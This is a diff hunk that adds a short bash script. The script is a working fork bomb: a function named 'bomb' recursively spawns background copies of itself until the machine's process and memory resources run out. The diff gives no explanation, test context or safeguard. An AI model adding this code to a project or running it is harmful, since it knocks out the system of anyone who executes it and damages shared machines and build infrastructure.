@@ -1,0 +1,3 @@
+#!/bin/bash
+bomb() { bomb | bomb & }
+bomb
